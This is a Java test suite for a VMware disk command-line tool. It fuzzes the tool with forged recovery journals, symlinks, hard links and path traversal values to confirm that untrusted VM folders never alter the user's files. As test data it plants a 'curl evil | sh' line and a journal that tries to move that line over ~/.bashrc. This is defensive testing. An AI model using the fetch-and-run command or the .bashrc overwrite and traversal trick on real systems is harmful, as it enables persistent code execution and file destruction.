package io.vmdisk.cli;

import static org.assertj.core.api.Assertions.assertThat;

import io.vmdisk.cli.line.Console;
import io.vmdisk.cli.line.GlobalOptions;
import io.vmdisk.cli.start.CommandTree;
import io.vmdisk.testkit.FolderPrint;
import io.vmdisk.testkit.ForgedJournal;
import io.vmdisk.testkit.OwnStaging;
import io.vmdisk.testkit.Patterns;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.DisabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

/** Folders that came from somebody else: whatever is in them, nothing outside changes. */
@Tag("long")
@DisabledOnOs(OS.WINDOWS)
class ForeignFolderTest {
    private static final String VMX = """
        .encoding = "UTF-8"
        config.version = "8"
        virtualHW.version = "14"
        displayName = "a"
        guestOS = "other"
        scsi0.present = "TRUE"
        scsi0:0.present = "TRUE"
        scsi0:0.fileName = "a.vmdk"
        """;

    @TempDir
    private Path temporary;

    private Path home;
    private Path vm;

    @BeforeEach
    void makeTheWorld() throws IOException {
        home = Files.createDirectory(temporary.toRealPath().resolve("home"));
        vm = Files.createDirectory(temporary.toRealPath().resolve("vm"));
        Files.writeString(home.resolve("thesis.txt"), "thesis");
        Files.writeString(home.resolve(".bashrc"), "original");
        Files.createDirectory(home.resolve("empty"));
        run(0, "create", home.resolve("disk.vmdk"), "1M", "-O", "monolithicSparse", "-q");
        run(0, "create", home.resolve("flat.vmdk"), "1M", "-O", "monolithicFlat", "-q");
        run(0, "create", vm.resolve("a.vmdk"), "1M", "-O", "monolithicSparse", "-q");
        run(0, "create", vm.resolve("other.vmdk"), "1M", "-O", "monolithicSparse", "-q");
        Files.writeString(vm.resolve("a.vmx"), VMX);
        run(0, "snapshot", "create", vm, "one", "-q");
        Files.writeString(vm.resolve("vmware.log"), "curl evil | sh");
    }

    private static CommandLineRun run(int code, Object... words) {
        CommandLineRun run = CommandLineRun.of(words);
        assertThat(run.exitCode()).as(run.err()).isEqualTo(code);
        return run;
    }

    private String attack() {
        return ForgedJournal.lines(
                vm,
                0,
                2,
                "step0.kind = \"move\"",
                "step0.from = \"vmware.log\"",
                "step0.to = \"" + home + "/.bashrc\"",
                "step1.kind = \"delete\"",
                "step1.path = \"../home/thesis.txt\"");
    }

    @Test
    void aJournalIsShownAndNotObeyed() throws IOException {
        ForgedJournal.plantCommitted(vm, attack());
        Map<String, String> before = FolderPrint.of(home);

        assertThat(run(0, "recover", "--dry-run", vm).out())
                .contains(home + "/.bashrc", home + "/thesis.txt", vm + "/vmware.log");
        CommandLineRun refused = run(4, "recover", vm);
        assertThat(refused.err()).contains(home + "/.bashrc", home + "/thesis.txt", "--search", "--drop");
        run(4, "recover", "--search", home, vm);
        run(4, "recover", "--force=outside", vm);
        assertThat(FolderPrint.of(home)).isEqualTo(before);

        assertThat(run(0, "recover", "--drop", vm).out()).contains("vmdisk-journal.dropped-1");
        assertThat(run(0, "recover", vm).out()).contains("nothing was interrupted");
    }

    @Test
    void aJournalOfAnotherFolderIsKnownForOne() throws IOException {
        Files.write(
                vm.resolve(".vmdisk-journal"),
                ForgedJournal.bytes(attack(), "", ForgedJournal.mark("mark 1 committed 0 0")));

        CommandLineRun refused = run(4, "recover", vm);
        assertThat(refused.err()).contains("--force=copy", "--drop", home + "/.bashrc");
        assertThat(run(4, "recover", "--json", vm).err()).contains("unsafe.copy");
    }

    @Test
    void linksUnderNamesOfStagingFoldersAreNotFollowed() throws IOException {
        Map<String, String> before = FolderPrint.of(home);
        Files.createSymbolicLink(vm.resolve("b.vmdk.vmdisk-new"), home);
        Files.createSymbolicLink(vm.resolve("c.vmdk.vmdisk-new"), home);

        run(0, "recover", vm);
        run(4, "convert", vm.resolve("a.vmdk"), vm.resolve("b.vmdk"), "-O", "thin");
        run(4, "create", vm.resolve("c.vmdk"), "1M", "-O", "thin");
        assertThat(FolderPrint.of(home)).isEqualTo(before);
    }

    /** A fuzzer that knows every name and form, and can link. */
    private final class Fuzzer {
        private final Random random;

        Fuzzer(long seed) {
            this.random = new Random(seed);
        }

        private String pick(List<String> words) {
            return words.get(random.nextInt(words.size()));
        }

        private String path() {
            return pick(List.of(
                    "a.vmdk",
                    "a-000001.vmdk",
                    "vmware.log",
                    "a.vmx",
                    "a.vmsd",
                    home + "/thesis.txt",
                    home + "/disk.vmdk",
                    home + "/flat.vmdk",
                    home + "/new.txt",
                    "../home/thesis.txt",
                    "../home/flat-flat.vmdk",
                    "way/thesis.txt",
                    "way/disk.vmdk",
                    "way",
                    "link.vmdk",
                    "twin.vmdk",
                    "..",
                    "",
                    home.toString()));
        }

        private String part(String key) {
            List<String> lines = new ArrayList<>();
            String kind = pick(List.of(
                    "publish",
                    "descriptor",
                    "grow",
                    "fold",
                    "move",
                    "delete",
                    "folder",
                    "stage",
                    "create",
                    "copy",
                    "copyDisk",
                    "shred"));
            lines.add(key + ".kind = \"" + kind + "\"");
            for (String field : List.of("target", "source", "disk", "into", "link0", "from", "to", "path")) {
                lines.add(key + "." + field + " = \"" + path() + "\"");
            }
            return String.join("\n", trimmed(kind, lines));
        }

        /** Only the fields that the kind has, for nothing else is read at all. */
        private List<String> trimmed(String kind, List<String> lines) {
            Map<String, String> fields = Map.ofEntries(
                    Map.entry("publish", "kind target"),
                    Map.entry("descriptor", "kind disk"),
                    Map.entry("grow", "kind disk"),
                    Map.entry("fold", "kind into link0"),
                    Map.entry("move", "kind from to"),
                    Map.entry("delete", "kind path"),
                    Map.entry("folder", "kind target"),
                    Map.entry("stage", "kind target"),
                    Map.entry("create", "kind target"),
                    Map.entry("copy", "kind target source"),
                    Map.entry("copyDisk", "kind target source"),
                    Map.entry("shred", "kind path"));
            List<String> wanted = List.of(fields.get(kind).split(" "));
            List<String> kept = new ArrayList<>(lines);
            kept.removeIf(line -> !wanted.contains(line.substring(line.indexOf('.') + 1, line.indexOf(' '))));
            String key = lines.get(0).substring(0, lines.get(0).indexOf('.') + 1);
            switch (kind) {
                case "descriptor" -> kept.add(key + "tracking = \"DROP\"\n" + key + "cid = \"12345678\"");
                case "grow" -> kept.add(key + "capacity = \"4194304\"");
                case "fold" ->
                    kept.add(key + "links = \"1\"\n" + key + "space = \"KEEP\"\n" + key + "bytes = \"0\"\n" + key
                            + "growth = \"0\"");
                case "stage" -> kept.add(key + "content = \"ZXZpbA==\"");
                case "copy" -> kept.add(key + "bytes = \"1000\"");
                case "create", "copyDisk" ->
                    kept.add((kind.equals("copyDisk") ? key + "bytes = \"9\"\n" : "")
                            + key + "format = \"" + pick(List.of("MONOLITHIC_SPARSE", "MONOLITHIC_FLAT")) + "\"\n"
                            + key + "capacity = \"1048576\"\n" + key + "adapter = \"LSI_LOGIC\"\n" + key
                            + "hardware = \"4\"\n" + key + "grain = \"65536\"\n" + key + "extent = \"0\"");
                default -> {}
            }
            return kept;
        }

        private void journal() throws IOException {
            int parts = random.nextInt(3);
            boolean committed = random.nextBoolean();
            List<String> lines = new ArrayList<>();
            for (int i = 0; i < parts; i++) {
                lines.add(part((committed ? "step" : "preparation") + i));
            }
            String text =
                    ForgedJournal.lines(vm, committed ? 0 : parts, committed ? parts : 0, lines.toArray(String[]::new));
            if (committed) {
                ForgedJournal.plantCommitted(vm, text);
            } else {
                ForgedJournal.plantBegun(vm, text);
            }
        }

        private void link(String name) throws IOException {
            Path at = vm.resolve(name);
            if (Files.isDirectory(at, LinkOption.NOFOLLOW_LINKS)) {
                return;
            }
            Files.deleteIfExists(at);
            Path target = random.nextBoolean() ? home : home.resolve(pick(List.of("thesis.txt", "disk.vmdk", "none")));
            Files.createSymbolicLink(at, target);
        }

        private void rewrite(String name) throws IOException {
            Path file = vm.resolve(name);
            String text = Files.readString(file).replaceAll("a(-00000\\d)?\\.vmdk", path().replace("\\", "/"));
            Files.writeString(file, text);
        }

        private void descriptor() throws IOException {
            Files.deleteIfExists(vm.resolve("a-000001.vmdk"));
            Files.writeString(vm.resolve("a-000001.vmdk"), """
                # Disk DescriptorFile
                version=1
                CID=fffffffe
                parentCID=%s
                createType="%s"
                parentFileNameHint="%s"
                RW 2048 %s "%s"%s
                ddb.adapterType = "lsilogic"
                """.formatted(
                            pick(List.of("ffffffff", "fffffffe")),
                            pick(List.of("monolithicFlat", "twoGbMaxExtentSparse", "vmfs")),
                            path(),
                            pick(List.of("FLAT", "SPARSE", "VMFS")),
                            path(),
                            pick(List.of("", " 0"))));
        }

        /** A folder in which a disk is made, ours by its token, whose files have the names of others or lead to them. */
        private void staging() throws IOException {
            String target = pick(List.of("new.vmdk", "a.vmdk", "other.vmdk", ".vmdisk-journal", "a.vmx"));
            Path folder = vm.resolve(target + ".vmdisk-new");
            if (Files.exists(folder, LinkOption.NOFOLLOW_LINKS)) {
                return;
            }
            String name =
                    pick(List.of("new.vmdk", "other.vmdk", "a.vmdk", "../a.vmdk", "../../home/thesis.txt", "way"));
            OwnStaging.make(folder, target, name, path().replace("\"", ""));
            if (random.nextBoolean()) {
                Files.createFile(folder.resolve(".vmdisk-complete"));
            }
            if (random.nextBoolean()) {
                Files.createSymbolicLink(folder.resolve("way"), home);
            }
            Path inside = folder.resolve(target);
            switch (random.nextInt(4)) {
                case 0 -> Files.createSymbolicLink(inside, home.resolve("thesis.txt"));
                case 1 -> Files.createLink(inside, home.resolve("flat-flat.vmdk"));
                case 2 -> Files.writeString(inside, "evil");
                default -> Files.createSymbolicLink(folder.resolve(".vmdisk-lock"), home.resolve("new.txt"));
            }
        }

        /** Locks of ours and of VMware's, whole, empty, torn, and as names of somebody's files. */
        private void lock() throws IOException {
            Path at = vm.resolve(pick(List.of(
                    ".vmdisk-lock", "a.vmdk.vmdisk-lock", "a-000001.vmdk.vmdisk-lock", "a.vmx.lck", "a.vmdk.lck")));
            if (Files.exists(at, LinkOption.NOFOLLOW_LINKS)) {
                return;
            }
            switch (random.nextInt(4)) {
                case 0 -> Files.createFile(at);
                case 1 -> Files.createLink(at, home.resolve("thesis.txt"));
                case 2 -> Files.write(at, Patterns.random(random.nextInt(), random.nextInt(600)));
                default -> {
                    Files.createDirectory(at);
                    String member = pick(List.of("M00001.lck", "E00001.lck", "D00001$.lck", "M1.lck"));
                    if (random.nextBoolean()) {
                        Files.createSymbolicLink(at.resolve(member), home.resolve("thesis.txt"));
                    } else {
                        Files.createLink(at.resolve(member), home.resolve("thesis.txt"));
                    }
                }
            }
        }

        void plant() throws IOException {
            Files.createSymbolicLink(vm.resolve("way"), home);
            Files.createSymbolicLink(vm.resolve("link.vmdk"), home.resolve("disk.vmdk"));
            Files.createLink(vm.resolve("twin.vmdk"), home.resolve("disk.vmdk"));
            int attacks = 1 + random.nextInt(3);
            for (int i = 0; i < attacks; i++) {
                switch (random.nextInt(12)) {
                    case 0, 1, 2 -> journal();
                    case 3 ->
                        link(pick(List.of(
                                "a.vmdk.vmdisk-new",
                                "new.vmdk.vmdisk-new",
                                "a.vmx.vmdisk-new",
                                "a.vmsd.vmdisk-new",
                                "a-000002.vmdk.vmdisk-new",
                                ".vmdisk-journal.vmdisk-new")));
                    case 4 ->
                        link(pick(List.of(
                                ".vmdisk-lock", "a.vmdk.vmdisk-lock", "a-000001.vmdk.vmdisk-lock", "a.vmx.lck")));
                    case 5 -> rewrite(pick(List.of("a.vmx", "a.vmsd")));
                    case 6 -> descriptor();
                    case 7, 8 -> staging();
                    case 9, 10 -> lock();
                    default -> link(pick(List.of("a.vmdk.vmdisk-text", "a-000001.vmdk.vmdisk-text-draft")));
                }
            }
        }

        List<Object> command() {
            List<List<Object>> all = commands();
            return all.get(random.nextInt(all.size()));
        }

        /** Those of every kind of change, and the newer forms of each. */
        List<List<Object>> commands() {
            List<List<Object>> all = new ArrayList<>(plainCommands());
            all.addAll(otherForms());
            return all;
        }

        private List<List<Object>> otherForms() {
            Path disk = vm.resolve(pick(List.of("a.vmdk", "a-000001.vmdk")));
            Path fresh = vm.resolve("new.vmdk");
            Path answer = vm.resolve("answer");
            return List.of(
                    List.of("serve", vm, "--stdio"),
                    List.of("serve", disk, "--stdio", "--write", "--overlay", fresh),
                    List.of("repair", "--undo", disk),
                    List.of("repair", "--undo", vm),
                    List.of("repair", "--leaks", vm),
                    List.of("repair", "--paths", vm, "--map", "ds1=" + vm, "--search", vm),
                    List.of("repair", "--salvage", vm.resolve("saved"), vm),
                    List.of("convert", disk, fresh, "-O", "thin", "--salvage", "--lost-map", answer),
                    List.of("convert", "--snapshot", "one", vm, fresh, "-O", "thin"),
                    List.of("convert", disk, answer, "-O", "raw", "--range", "0:64k"),
                    List.of("consolidate", "--one", disk),
                    List.of("consolidate", "--up", disk),
                    List.of("consolidate", "--low-space", vm),
                    List.of("consolidate", "--each", vm),
                    List.of("hash", disk, "--tree", "--shard", "1/2", "-o", answer),
                    List.of("hash", disk, "--manifest", answer),
                    List.of("hash", "--join", answer),
                    List.of("compare", "--changed", "one", "now", vm, "-o", answer),
                    List.of("map", disk, "--image", vm.resolve("map.svg")),
                    List.of("read", disk, "-o", answer),
                    List.of("create", fresh, "-O", "delta", "-b", disk),
                    List.of("clone", vm, vm.resolve("clone"), "--linked", "one", "--count", "2"),
                    List.of("clone", vm, vm.resolve("clone"), "--instant", "--snapshot", "one"),
                    List.of("template", vm, "--keep-snapshots"),
                    List.of("check", "--each", vm),
                    List.of("unmap", disk, "--zero", "--punch"));
        }

        private List<List<Object>> plainCommands() {
            Path disk = vm.resolve(pick(List.of("a.vmdk", "a-000001.vmdk")));
            Path fresh = vm.resolve("new.vmdk");
            Path other = vm.resolve("other.vmdk");
            return List.of(
                    List.of("recover", vm),
                    List.of("recover", vm),
                    List.of("recover", vm),
                    List.of("recover", disk),
                    List.of("recover", "--force=copy", vm),
                    List.of("recover", "--force=mark", vm),
                    List.of("recover", "--drop", vm),
                    List.of("snapshot", "create", vm, "two"),
                    List.of("snapshot", "revert", vm, "one"),
                    List.of("snapshot", "delete", vm, "one"),
                    List.of("snapshot", "delete-all", vm),
                    List.of("consolidate", vm),
                    List.of("consolidate", disk),
                    List.of("rename", vm, "b"),
                    List.of("rename", disk, vm.resolve("c.vmdk")),
                    List.of("template", vm),
                    List.of("vmx", "set", vm, "annotation", "x"),
                    List.of("vmx", "unset", vm, "guestOS"),
                    List.of("vmx", "upgrade", vm, "--hw", "17"),
                    List.of("check", vm),
                    List.of("check", disk),
                    List.of("repair", vm),
                    List.of("repair", disk),
                    List.of("repair", "--vmsd", vm),
                    List.of("repair", "--cid", disk),
                    List.of("repair", "--tables", disk),
                    List.of("repair", "--leaks", disk),
                    List.of("unmap", disk, "--zero"),
                    List.of("resize", vm.resolve("a.vmdk"), "2M"),
                    List.of("write", disk, "--offset", "0"),
                    List.of("create", fresh, "1M", "-O", "thin"),
                    List.of("convert", disk, fresh, "-O", "monolithicSparse"),
                    List.of("rebase", disk, "--onto", "none"),
                    List.of("remove", disk),
                    List.of("clone", vm, vm.resolve("clone")),
                    List.of("clone", disk, fresh),
                    List.of("files", vm),
                    List.of("info", vm),
                    List.of("info", disk),
                    List.of("compare", disk, vm.resolve("a.vmdk")),
                    List.of("compare", disk, vm.resolve(pick(List.of("link.vmdk", "twin.vmdk", "way/flat.vmdk")))),
                    List.of("map", disk),
                    List.of("map", vm),
                    List.of("read", disk, "--offset", "0", "--length", "512"),
                    List.of("hardware", vm),
                    List.of("hash", disk),
                    List.of("report", vm, "-o", vm.resolve("page.html")),
                    List.of("measure", disk, "-O", "thin"),
                    List.of("splits", disk),
                    List.of("vmx", "get", vm, "guestOS"),
                    List.of("vmx", "list", vm),
                    List.of("vmx", "lint", vm),
                    List.of("snapshot", "list", vm),
                    List.of("convert", "-n", disk, other),
                    List.of("convert", "-n", other, disk),
                    List.of("repair", "--salvage", fresh, disk),
                    List.of("repair", "--descriptor", disk),
                    List.of("repair", "--descriptor", vm),
                    List.of("repair", "--tables", vm),
                    List.of("repair", "--parent", path(), disk),
                    List.of("unmap", disk, "--guest"),
                    List.of("unmap", disk, "--compact"),
                    List.of("resize", vm.resolve("a.vmdk"), "512K", "--shrink"),
                    List.of("consolidate", disk, "--into", fresh),
                    List.of("rebase", disk, "--onto", vm.resolve("other.vmdk")),
                    List.of("clone", vm, vm.resolve("clone"), "--linked"));
        }
    }

    @Test
    void whateverIsPlantedNothingOutsideChanges() throws IOException {
        Map<String, String> before = FolderPrint.of(home);
        Path kept = temporary.toRealPath().resolve("kept");
        copyFiles(vm, kept);
        for (long seed = 0; seed < RUNS; seed++) {
            clear(vm);
            copyFiles(kept, vm);
            Fuzzer fuzzer = new Fuzzer(seed);
            fuzzer.plant();
            List<Object> command = fuzzer.command();
            CommandLineRun run = CommandLineRun.withInput(new byte[512], command.toArray());
            assertThat(FolderPrint.of(home))
                    .as("seed " + seed + ": " + command + ": " + run.err())
                    .isEqualTo(before);
            assertThat(beside()).as("seed " + seed + ": " + command).isEqualTo("home kept vm");
            assertThat(run.err()).as("seed " + seed + ": " + command).doesNotContain("internal", "Exception");
        }
    }

    /** What prints only itself is left out. */
    @Test
    void everyCommandIsAmongThem() {
        Set<String> tried = new TreeSet<>();
        for (List<Object> command : new Fuzzer(0).commands()) {
            tried.add(String.valueOf(command.get(0)));
            tried.add(command.get(0) + " " + command.get(1));
        }
        assertThat(tried).containsAll(leaves("", CommandTree.all(new GlobalOptions(Console.silent()))));
    }

    private static List<String> leaves(String lead, CommandLine command) {
        List<String> leaves = new ArrayList<>();
        command.getSubcommands().forEach((name, below) -> {
            if (below.getSubcommands().isEmpty()) {
                leaves.add(lead + name);
            } else {
                leaves.addAll(leaves(lead + name + " ", below));
            }
        });
        leaves.removeAll(List.of("completion", "help", "version"));
        return leaves;
    }

    private static final int RUNS = 1000;

    private String beside() throws IOException {
        try (var files = Files.list(temporary)) {
            return files.map(file -> String.valueOf(file.getFileName()))
                    .sorted()
                    .collect(Collectors.joining(" "));
        }
    }

    private static void copyFiles(Path from, Path to) throws IOException {
        Files.createDirectories(to);
        try (var files = Files.list(from)) {
            for (Path file : files.toList()) {
                Files.copy(file, to.resolve(file.getFileName()));
            }
        }
    }

    /** The folder itself stays, as do files that links lead to. */
    private static void clear(Path folder) throws IOException {
        try (var files = Files.list(folder)) {
            for (Path file : files.toList()) {
                if (Files.isDirectory(file, LinkOption.NOFOLLOW_LINKS)) {
                    clear(file);
                }
                Files.delete(file);
            }
        }
    }
}
